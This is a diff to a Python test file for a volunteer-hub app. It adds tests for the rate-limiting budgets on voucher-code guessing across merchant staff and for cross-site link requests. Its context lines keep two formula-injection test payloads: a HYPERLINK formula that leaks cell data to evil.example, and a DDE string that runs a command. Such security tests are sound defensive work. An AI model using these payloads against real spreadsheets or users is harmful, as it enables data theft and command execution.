@@ -22,7 +22,7 @@ from volunteer_hub.config import ConfigError, from_env
 from volunteer_hub.core import crypto
 from volunteer_hub.core.audit import AuditEntry
 from volunteer_hub.core.db import utcnow
-from volunteer_hub.core.errors import Conflict, Forbidden, ValidationFailed
+from volunteer_hub.core.errors import Conflict, Forbidden, NotFound, ValidationFailed
 from volunteer_hub.core.urls import external_url
 from volunteer_hub.core.validators import mask_personal_data
 from volunteer_hub.events import services as events
@@ -35,6 +35,7 @@ from volunteer_hub.people import logins, verification
 from volunteer_hub.people import services as people
 from volunteer_hub.people.models import LoginThrottle, VolunteerProfile
 from volunteer_hub.vouchers import services as vouchers
+from volunteer_hub.vouchers.models import VoucherAttempt
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -649,3 +650,63 @@ def test_an_events_coordinates_are_shown_only_to_who_may_sign_up_or_runs_it(app,
         assert api(user).get(url).json["lat"] == 31.0
     resident = api(world.outsider).get(url)
     assert resident.status_code == 200 and resident.json["lat"] is None and resident.json["lon"] is None
+
+
+# 11. The counter budget ------------------------------------------------------------------------------
+
+def _merchant_with_staff(world, name: str, licence: str, phones: list[str]):
+    owner = people.create_user(name=f"{name}老板", phone=phones[0], password=World.PASSWORD)
+    merchant = merchants.register_merchant(owner, centre=world.centre, owner=owner, name=name, address="东门路",
+                                       contact_phone=phones[0], licence_no=licence)
+    merchants.approve(world.centre_admin, merchant, [world.s1.id])
+    staff = [owner]
+    for phone in phones[1:]:
+        clerk = people.create_user(name=f"{name}店员", phone=phone, password=World.PASSWORD)
+        invitation = merchants.invite_staff(owner, merchant, phone)
+        merchants.answer_invitation(clerk, invitation, accept=True)
+        staff.append(clerk)
+    db.session.commit()
+    return merchant, staff
+
+
+def _guess(person, times: int, ip: str = "100.64.8.8") -> None:
+    for i in range(times):
+        with pytest.raises(NotFound):
+            vouchers.find_for_counter(person, f"BAD{person.id:02d}{i:03d}", ip)
+
+
+def test_throwaway_staff_of_one_merchant_cannot_block_another_behind_the_same_address(app, world, haircut):  # noqa: F811
+    _rival, throwaways = _merchant_with_staff(world, "捣乱小店", "91320509MA1CCCC09X",
+                                              ["13612340100", "13612340101", "13612340102", "13612340103"])
+    for person in throwaways[:3]:  # 30 wrong codes from the address the real merchant also uses
+        _guess(person, vouchers.FAILURES_PER_ACCOUNT)
+    with pytest.raises(vouchers.RateLimited):  # the rival's own counter is stopped …
+        vouchers.find_for_counter(throwaways[3], "ANYCODE1", "100.64.8.8")
+    voucher = vouchers.create(world.volunteer, haircut)
+    db.session.commit()
+    assert vouchers.find_for_counter(owner_of(haircut), voucher.code, "100.64.8.8") == voucher  # … not this one
+
+
+def test_a_merchant_has_a_budget_across_its_staff(app, world):
+    _shop, staff = _merchant_with_staff(world, "三人小店", "91320509MA1CCCC08X",
+                                        ["13612340200", "13612340201", "13612340202", "13612340203"])
+    for person in staff[:3]:
+        _guess(person, vouchers.FAILURES_PER_MERCHANT // 3, ip=f"100.64.9.{person.id}")
+    with pytest.raises(vouchers.RateLimited) as caught:  # a fourth account of the same merchant waits too
+        vouchers.find_for_counter(staff[3], "ANYCODE2", "100.64.9.99")
+    assert "商户" in caught.value.message
+
+
+@pytest.mark.app_config(RATELIMIT_ENABLED=True, RATELIMIT_VOUCHER_CODE="5 per minute")
+def test_links_from_other_sites_spend_no_budget(app, world, haircut):  # noqa: F811
+    voucher = vouchers.create(world.volunteer, haircut)
+    db.session.commit()
+    browser = login(app.test_client(), owner_of(haircut))
+    for i in range(40):  # e.g. <img src=".../r/…"> on a page the staff member opened
+        page = browser.get(f"/r/BAD{i:05d}", headers={"Sec-Fetch-Site": "cross-site"})
+        assert page.status_code == 200 and "BAD" in page.text
+    assert db.session.scalar(sa.select(sa.func.count()).select_from(VoucherAttempt)) == 0
+    opened = browser.get(f"/r/{voucher.code}", headers={"Sec-Fetch-Site": "same-origin"})
+    assert opened.status_code == 200 and "理发一次" in opened.text  # the deliberate look-up still works
+    scanned = browser.get(f"/r/{voucher.code}", headers={"Sec-Fetch-Site": "none"})  # a QR code scanned
+    assert scanned.status_code == 200 and "理发一次" in scanned.text
